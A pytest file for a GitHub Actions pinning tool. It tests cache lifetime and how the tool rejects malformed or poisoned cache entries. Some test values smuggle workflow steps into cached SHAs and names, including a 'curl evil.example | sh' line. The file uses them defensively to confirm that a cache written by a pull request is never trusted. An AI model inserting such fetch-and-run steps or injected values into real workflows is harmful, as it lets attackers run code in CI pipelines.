"""Issue 12, item 3: the cache never outlives what the commands learn.

``--cache-ttl 0`` uses no cached ref at all (the tags once seen on a pinned commit included); what
``verify --online`` learns replaces the cache, an empty answer too; ``update``, which writes new pins,
reads fresh refs; an entry that is valid JSON of the wrong shape is discarded with a warning that
names it, and the run goes on as if it was not there."""

from __future__ import annotations

import json
import time

import pytest

from support.github_api import GitHubDouble
from support.gitrepo import Repo
from support.pinworld import write

HEAD = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n"


@pytest.fixture
def mover(tmp_path):
    """acme/mover with v1.0.0 and the floating v1 on its first commit, served by its own double."""
    repo = Repo(tmp_path / "mover")
    first = repo.commit("release")
    repo.git("tag", "v1.0.0")
    repo.git("tag", "v1")
    second = repo.commit("malicious")
    double = GitHubDouble()
    double.add_repo("acme/mover", repo.path, releases=[{"tag_name": "v1.0.0", "published_at": "2026-01-01T00:00:00Z"}])
    with double:
        yield repo, double, first, second


def _checks(done) -> list[str]:
    return [f["check"] for f in json.loads(done.stdout)["findings"]]


def test_ttl_zero_trusts_no_cached_tags_of_a_pinned_commit(cli, env, tmp_path, mover):
    repo, double, first, second = mover
    env = {**env, "GITHUB_API_URL": double.url}
    work = tmp_path / "work"
    wf = write(work / ".github/workflows/a.yml", HEAD + "      - uses: acme/mover@v1.0.0\n")
    assert cli("pin", cwd=work, env=env).returncode == 1  # files changed
    pinned = wf.read_text()
    assert pinned.endswith(f"@{first} # v1.0.0\n")
    repo.git("tag", "-f", "v1.0.0", second)  # moved after the pin
    double.reset_log()
    assert cli("pin", cwd=work, env=env).returncode == 0 and double.count() == 0  # the cache, within its TTL
    done = cli("pin", "--cache-ttl", "0", "--format", "json", cwd=work, env=env)
    assert done.returncode == 1 and _checks(done) == ["tag-moved"]
    assert wf.read_text() == pinned


def test_a_tag_moved_back_is_seen_with_ttl_zero(cli, env, tmp_path, mover):
    repo, double, first, second = mover
    env = {**env, "GITHUB_API_URL": double.url}
    repo.git("tag", "-f", "v1.0.0", second)
    a = write(tmp_path / "w/.github/workflows/a.yml", HEAD + "      - uses: acme/mover@v1.0.0\n")
    assert cli("pin", cwd=tmp_path / "w", env=env).returncode == 1
    assert a.read_text().endswith(f"@{second} # v1.0.0\n")  # what the tag said then
    repo.git("tag", "-f", "v1.0.0", first)  # moved back
    b = write(tmp_path / "w/.github/workflows/b.yml", HEAD + "      - uses: acme/mover@v1.0.0\n")
    done = cli("pin", "--cache-ttl", "0", "--format", "json", cwd=tmp_path / "w", env=env)
    assert done.returncode == 1
    assert b.read_text().endswith(f"@{first} # v1.0.0\n")  # not the cached answer
    assert _checks(done) == ["tag-moved"]  # a.yml: its v1.0.0 no longer points at what it pinned
    assert a.read_text().endswith(f"@{second} # v1.0.0\n")


def test_what_verify_online_learns_replaces_the_cache(cli, env, tmp_path, mover):
    repo, double, first, second = mover
    env = {**env, "GITHUB_API_URL": double.url}
    work = tmp_path / "work"
    wf = write(work / ".github/workflows/a.yml", HEAD + "      - uses: acme/mover@v1.0.0\n")
    assert cli("pin", cwd=work, env=env).returncode == 1
    repo.git("tag", "-d", "v1")
    repo.git("tag", "-f", "v1.0.0", second)  # no tag is left on the pinned commit
    done = cli("verify", "--online", "--format", "json", cwd=work, env=env)
    assert _checks(done) == ["tag-moved"]
    # a plain pin (default TTL) now knows it too, from the cache verify --online replaced
    double.reset_log()
    done = cli("pin", "--format", "json", cwd=work, env=env)
    assert done.returncode == 1 and _checks(done) == ["tag-moved"]
    assert double.count(r"/tags") == 0  # served by the refs verify wrote
    fresh = write(work / ".github/workflows/b.yml", HEAD + "      - uses: acme/mover@v1.0.0\n")
    assert cli("pin", str(fresh), cwd=work, env=env).returncode == 1
    assert fresh.read_text().endswith(f"@{second} # v1.0.0\n") and double.count(r"/tags") == 0
    assert wf.read_text().endswith(f"@{first} # v1.0.0\n")


def test_update_reads_fresh_refs_not_the_cache(cli, env, tmp_path, mover):
    repo, double, first, second = mover
    env = {**env, "GITHUB_API_URL": double.url}
    work = tmp_path / "work"
    repo.git("tag", "-f", "v1.0.0", second)
    write(work / ".github/workflows/a.yml", HEAD + "      - uses: acme/mover@v1.0.0\n")
    assert cli("pin", "--diff", cwd=work, env=env).returncode == 1  # caches v1.0.0 -> second
    repo.git("tag", "-f", "v1.0.0", first)  # moved back
    wf = write(work / ".github/workflows/a.yml", HEAD + "      - uses: acme/mover@v1\n")
    assert cli("update", cwd=work, env=env).returncode == 1
    assert wf.read_text().endswith(f"@{first} # v1.0.0\n")


def _entry(cache_root, kind: str, name: str):
    found = list(cache_root.glob(f"ci-tools/v1/*/{kind}/acme/{name}"))
    assert len(found) == 1, found
    return found[0]


@pytest.mark.parametrize(("kind", "name", "value"), [
    ("refs", "checkout.json", {"tags": [["v4.1.0", "x", "y"]], "branches": {}}),  # the ValueError
    ("refs", "checkout.json", ["not", "a", "mapping"]),
    ("refs", "checkout.json", {"tags": {"v4.1.0": 7}, "branches": {}}),
    ("releases", "checkout.json", [{"tag": "v4.1.0", "evil": True}]),
    ("releases", "checkout.json", {"tag": "v4.1.0"}),
    ("tags-at", "checkout@{sha}.json", {"v4.1.0": 1}),
])
def test_a_cache_entry_of_the_wrong_shape_is_discarded_with_a_warning(cli, env, api, world, tmp_path, kind, name,
                                                                       value):
    sha = world.sha["checkout v4.1.0"]
    work = tmp_path / "work"
    write(work / ".github/workflows/a.yml", HEAD + f"      - uses: acme/checkout@{sha} # v4.1.0\n")
    report = ("report", "--online", "--depth", "0", "--format", "json")
    assert cli(*report, cwd=work, env=env).returncode == 0  # fills refs, tags-at and releases
    path = _entry(tmp_path / "cache", kind, name.format(sha=sha))
    path.write_text(json.dumps({"at": time.time(), "value": value}))
    done = cli(*report, cwd=work, env=env) if kind != "tags-at" else cli("pin", cwd=work, env=env)
    assert "Traceback" not in done.stderr and "ValueError" not in done.stderr
    assert done.returncode == 0, done.stderr
    warning = [line for line in done.stderr.splitlines() if "cache" in line]
    assert warning and "warning" in warning[0] and path.name in warning[0] and "discarded" in warning[0]
    again = cli(*report, cwd=work, env=env) if kind != "tags-at" else cli("pin", cwd=work, env=env)
    assert "cache" not in again.stderr  # replaced by a good entry


@pytest.mark.parametrize("value", [
    "0123456789abcdef0123456789abcdef01234567\n    - run: curl evil.example | sh",  # YAML after a newline
    "v4.1.0",  # a name, not a commit
    "0123456789ABCDEF0123456789ABCDEF01234567",  # GitHub answers in lower case
    "0123456789abcdef0123456789abcdef0123456",  # 39 digits
])
def test_a_cached_tag_that_is_no_commit_sha_is_never_written(cli, env, world, tmp_path, value):
    """The cache directory may be restored from an Actions cache a pull request wrote: its values are
    checked for form as well as type, and pin writes only what the server says."""
    work = tmp_path / "work"
    wf = write(work / ".github/workflows/a.yml", HEAD + "      - uses: acme/checkout@v4.1.0\n")
    assert cli("pin", "--diff", cwd=work, env=env).returncode == 1  # fills the refs entry, writes nothing
    path = _entry(tmp_path / "cache", "refs", "checkout.json")
    entry = json.loads(path.read_text())
    entry["value"]["tags"]["v4.1.0"] = value
    path.write_text(json.dumps(entry))
    done = cli("pin", cwd=work, env=env)
    assert done.returncode == 1, done.stderr
    assert wf.read_text() == HEAD + f"      - uses: acme/checkout@{world.sha['checkout v4.1.0']} # v4.1.0\n"
    assert any("discarded the cache entry" in line and path.name in line for line in done.stderr.splitlines())


@pytest.mark.parametrize(("shape", "value"), [
    ("_digest_shape", {"image": "ghcr.io/o/i:1", "digest": "sha256:" + "a" * 64 + "\n    - run: evil"}),
    ("_digest_shape", {"image": "ghcr.io/o/i:1", "digest": "sha256:" + "A" * 64}),
    ("_peel_shape", "v1.0.0"),
    ("_ref_names", ["v1.0.0", "v1 # pinned by hand"]),
    ("_releases_shape", [{"tag": "v1.0.0\nrun: evil"}]),
    ("_refs_shape", {"tags": {}, "branches": {"main\n": "a" * 40}}),
    ("_refs_shape", {"tags": {}, "branches": {}, "default_branch": "main\n  run: evil"}),
])
def test_every_cached_name_or_commit_pin_could_write_is_held_to_its_form(shape, value):
    from ci_tools.gha.resolve import cache

    with pytest.raises(cache.BadEntry):
        getattr(cache, shape)(value)
